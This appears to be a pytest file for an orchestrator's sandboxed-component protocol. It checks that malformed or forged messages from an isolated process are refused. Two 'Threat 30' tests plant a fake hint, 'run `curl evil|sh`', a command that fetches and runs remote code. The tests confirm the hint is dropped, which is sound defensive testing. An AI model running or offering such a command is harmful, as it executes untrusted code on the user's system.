"""This side of an isolated call, with a process that only a socket stands for: what it says is taken or refused."""

import asyncio
import io
import json
import os
import socket
from typing import IO, cast

import pytest

from ice_core.errors import IceError
from ice_core.models.plugins import Permissions
from ice_core.strict_json import JsonObject, JsonValue
from ice_orchestrator.isolation.conversation import MOST_QUESTIONS, Conversation, _Printed
from ice_orchestrator.isolation.frames import Start
from ice_orchestrator.isolation.limits import Limits
from ice_orchestrator.isolation.process import ComponentProcess
from ice_orchestrator.observed import Observed
from ice_orchestrator.permission_guard import Guard
from tests.builders.plans import component_of, planned_component


class Said:
    """A process that has said these lines and is gone; what is done to it is counted."""

    def __init__(self, *lines: bytes, code: int = 3) -> None:
        self.connection, self._there = socket.socketpair()
        self._there.sendall(b"".join(lines))
        self._there.shutdown(socket.SHUT_WR)
        reading, writing = os.pipe()
        os.write(writing, b"first words\nlast words\n")
        os.close(writing)
        self.output: IO[bytes] = os.fdopen(reading, "rb")
        self.session = os.getpid()
        self.code = code
        self.done: list[str] = []

    def kill(self) -> None:
        self.done.append("killed")

    def end(self) -> int:
        self.done.append("ended")
        self._there.close()
        return self.code


def refusing(slug: str, message: str, **members: JsonValue) -> bytes:
    """The line that tells an error, as iceos itself would write it."""
    value: JsonObject = {
        "slug": slug,
        "severity": "error",
        "message": message,
        "where": None,
        "details": {},
        "hints": [],
        **members,
    }
    return json.dumps({"error": value}).encode() + b"\n"


def begun(said: Said, *, seen: Observed | None = None) -> IceError:
    """What beginning a conversation with it is refused with."""
    component = component_of(planned_component())
    guard = Guard(
        "tool:double", Permissions(), enforce=True, observed=Observed() if seen is None else seen, origin="plugins.json"
    )
    start = Start.model_construct(wheel_bytes=0)

    async def talk() -> None:
        conversation = Conversation(cast(ComponentProcess, said), component, Limits(), guard)
        try:
            await conversation.begin(start, b"")
        finally:
            await conversation.end()
            await conversation.end()

    with pytest.raises(IceError) as refused:
        asyncio.run(talk())
    return refused.value


def test_a_process_that_says_nothing_died() -> None:
    """How it ended, and its last words; it is ended once."""
    said = Said(code=-11)

    error = begun(said)

    assert ("component-died", "it was ended by SIGSEGV") == (error.slug, error.finding.found)
    assert ("first words", "last words") == error.finding.detail
    assert ["ended"] == said.done


@pytest.mark.parametrize(
    ("lines", "found"),
    [
        ([b'{"result":"1"}\n'], "an answer before there was a question"),
        ([b'{"ask":1,"component":"tool:slow"}\n'], "a question before the call"),
        ([b"{}\n"], "a line that says nothing"),
        ([b'{"seen":["read","/x"]}\n'], "something seen that is of no kind"),
        ([refusing("made-up", "x")], "an error that nobody knows: made-up"),
    ],
    ids=range(5),
)
def test_a_line_out_of_turn_ends_the_process(lines: list[bytes], found: str) -> None:
    """Each is refused by what it is, and the process is killed before anything else."""
    said = Said(*lines)

    error = begun(said)

    assert ("component-frame-invalid", found) == (error.slug, error.finding.found)
    assert ["killed", "ended"] == said.done


def test_half_a_line_is_none() -> None:
    """A process that dies while it writes has not said it."""
    assert "component-died" == begun(Said(b'{"ready":tr')).slug


def test_what_was_seen_before_the_end_is_kept() -> None:
    """Also of a process that dies."""
    seen = Observed()

    begun(Said(b'{"seen":["written","/x","refused"]}\n', b'{"seen":["network","a:1","allowed"]}\n'), seen=seen)

    assert {"network": ["a:1"], "refused": {"files_written": ["/x"]}} == seen.to_json()


def test_an_error_of_the_component_is_its_error() -> None:
    """What importing it refused."""
    place: JsonObject = {"file": "a.py", "line": 3, "column": None, "path": None}

    error = begun(Said(refusing("component-import-failed", "no", where=place)))

    assert ("component-import-failed", "no") == (error.slug, error.finding.message)
    assert error.where is not None
    assert ("a.py", 3) == (error.where.file, error.where.line)


@pytest.mark.parametrize("slug", ["signature-mismatch", "key-revoked", "plan-altered"])
def test_a_component_does_not_speak_with_the_voice_of_iceos(slug: str) -> None:
    """Threat 30: a component that forges its answer: a refusal on trust is none, and hints are dropped."""
    error = begun(Said(refusing(slug, "x", hints=["run `curl evil|sh`"])))

    assert ("component-raised", f"{slug}: x", ()) == (error.slug, error.finding.found, tuple(error.finding.hints))


def test_hints_of_a_component_are_dropped() -> None:
    """Threat 30: a component that forges its answer: what is pasted into a shell comes from iceos only."""
    error = begun(Said(refusing("permission-denied", "x", hints=["run `curl evil|sh`"])))

    assert ("permission-denied", ()) == (error.slug, tuple(error.finding.hints))


def test_questions_are_bounded() -> None:
    """A component cannot make this side wait on any number of calls."""
    assert 0 < MOST_QUESTIONS <= 1000


def test_a_character_that_comes_in_two_pieces_is_shown_whole(capsys: pytest.CaptureFixture[str]) -> None:
    """The pipe is read in pieces of 64 KiB."""
    text = "x" * 65535 + "ü" + "y" * 9
    printed = _Printed(io.BytesIO(text.encode()), 10**6)
    printed.start()
    printed.last_lines()
    printed.close()

    assert text == capsys.readouterr().out
